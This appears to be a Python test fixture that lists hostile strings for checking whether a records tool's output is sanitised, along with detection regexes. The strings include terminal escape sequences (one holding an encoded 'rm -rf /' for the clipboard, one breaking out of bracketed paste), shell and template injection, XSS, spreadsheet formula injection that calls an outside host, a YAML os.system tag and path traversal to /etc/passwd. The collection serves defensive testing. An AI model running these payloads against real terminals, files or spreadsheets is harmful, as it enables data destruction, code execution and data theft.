"""Texts that are meant to act on whoever prints, pastes or opens them, and how to see whether one has."""

from __future__ import annotations

import re

FORGED = "逾期999天 送货 假的一行"
"""A row of ``due`` that nobody owes."""
FORGED_FAULT = "sales/2026/SA26-0001.yaml:1: id forged"

_LATER = "\U000e0041\U000e0042\U000e007f"
OBEYED = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear screen": "\x1b[2J\x1b[H",
    "cursor up": "\x1b[1A\x1b[2K",
    "title": "\x1b]0;owned\x07",
    "title, ended by ST": "\x1b]2;owned\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "link": "\x1b]8;;http://example.invalid\x07here\x1b]8;;\x07",
    "answer back": "\x1b[6n\x1b[c\x1b[21t",
    "device string": '\x1bP$q"p\x1b\\',
    "privacy message": "\x1b^x\x1b\\",
    "application command": "\x1b_Gf=100;AAAA\x1b\\",
    "start of string": "\x1bXx\x1b\\",
    "alternate screen": "\x1b[?1049h",
    "bracketed paste": "\x1b[201~rm -rf /\n",
    "character set": "\x1b(0lqqk\x0e\x0f",
    "reset": "\x1bc",
    "8-bit CSI": "\x9b31m",
    "8-bit OSC": "\x9d0;owned\x9c",
    "8-bit DCS": "\x90x\x9c",
    "8-bit APC": "\x9fx\x9c",
    "8-bit NEL": "a\x85" + FORGED,
    "bell": "\a" * 5,
    "backspace": "100\b\b\b900",
    "delete": "a\x7fb",
    "null": "a\0b",
    "carriage return": "王\r" + FORGED,
    "line and carriage return": "王\r\n" + FORGED,
    "form feed": "a\x0c" + FORGED,
    "vertical tab": "a\x0b" + FORGED,
    "substitute": "a\x1ab",
    "end of transmission": "a\x04b",
    "file separator": "a\x1cb\x1db\x1eb\x1fb",
    "right to left": "\u202e001 之首付\u202c",
    "left to right": "\u202dabc\u202c",
    "embedding": "\u202aabc\u202b",
    "isolate": "\u2066abc\u2067\u2068\u2069",
    "half a pair": "a\ud800b",
    "half a pair, from bytes": "a\udc9bb\udcff",
    "no character": "a\ufffeb\uffff",
}
"""Payloads of which no record may hold a character: where one comes from a file, the file is refused."""
TAKEN = {
    "forged row": "王\n" + FORGED,
    "forged fault": "王\n" + FORGED_FAULT,
    "forged heading": "王\n\n" + "=" * 30 + "\naftercare: all is well",
    "tabs": "王\t\t\t\t" + FORGED,
    "line separator": "王\u2028" + FORGED,
    "paragraph separator": "王\u2029" + FORGED,
    "spaces up to the edge": "王" + " " * 300 + FORGED,
    "wide spaces": "王" + "\u3000" * 100 + FORGED,
    "marks": "王\u200e\u200f\u061c建",
    "no width": "王\u200b\u2060\u2061建\u00ad国",
    "byte order mark": "王\ufeff建国",
    "joiners": "王\u200c建\u200d国",
    "fillers": "\u3164\u115f\u1160\uffa0",
    "tags": "王" + _LATER,
    "annotations": "王\ufff9a\ufffab\ufffb",
    "heap of marks": "王" + "\u0301\u0338\u20dd" * 200,
    "very long": "王" * 5000,
    "very long word": "W" * 5000,
    "homoglyph": "Аlice аnd pаypal",
    "typed escape": "\\x1b[31m \\u202e \\n",
    "quotes": "'\"`´’“",
    "shell": "$(touch canary) `touch canary` ; touch canary | touch canary & > canary",
    "percent": "%s %n %(name)s {0} {name} {0.__class__} %%",
    "template": "{{7*7}} {% include 'base.html' %} ${7*7} #{7*7} <%= 7*7 %> {{''.__class__.__mro__}}",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'" \' style="background:url(http://example.invalid/)',
    "end of style": "</style></title></head><body onload=alert(1)><iframe src=javascript:alert(1)>",
    "entity": "&lt;b&gt; &#x3c;script&#x3e; &nbsp;",
    "link to a script": "javascript:alert(1) data:text/html,<script>alert(1)</script> file:///etc/passwd",
    "print box": '@page { size: A4; } <main class="paper"> @import url(http://example.invalid/x.css);',
    "formula": '=HYPERLINK("http://example.invalid/?"&A1)',
    "command of a formula": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide equals": "＝1+1",
    "wide plus": "＋1+1",
    "wide at": "＠SUM(1)",
    "wide minus": "－1+1",
    "space and formula": "  \u3000=1+1",
    "hidden and formula": "\u200b=1+1",
    "quote and formula": "'=1+1",
    "two quotes and formula": "''=1+1",
    "quote and figures": "'0571",
    "Dutch": "'t Hooft",
    "phone": "+8613800138000",
    "delimiters": 'a,b;c\td|e"f',
    "yaml": "- a: &x *x !!python/object:os.system #",
    "json": '"},{"id":"x',
    "option": "--help",
    "short option": "-C/tmp",
    "end of options": "--",
    "path": "../../../../etc/passwd",
    "path from the root": "/etc/passwd",
}
"""Payloads that a record may hold, whatever they look like: they are somebody's words."""
EVERY = {**OBEYED, **TAKEN}

_ACTING = re.compile("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069\\ud800-\\udfff]")
_HIDDEN = re.compile(
    "[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f\\ud800-\\udfff\\u2028\\u2029\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069"
    "\\u00ad\\u115f\\u1160\\u180e\\u200b\\u2060-\\u2065\\u3164\\ufeff\\uffa0\\ufff9-\\ufffb\\U000e0000-\\U000e007f]"
    "|[\\u0300-\\u036f\\u20d0-\\u20ff]{9,}"
)
_BEGINS = re.compile(f"^(?:{re.escape(FORGED)}|{re.escape(FORGED_FAULT)}|aftercare: all is well)", re.MULTILINE)


def acted(text: str, *, exact: bool = False) -> list[str]:
    """What of a payload got through to a terminal: characters that it obeys or hides, and lines nobody meant.

    In *exact* formats, whose values have lines and signs of their own, only what a terminal obeys.
    """
    found = [f"U+{ord(char[0]):04X}" for char in (_ACTING if exact else _HIDDEN).findall(text)]
    return found if exact else [*found, *_BEGINS.findall(text)]
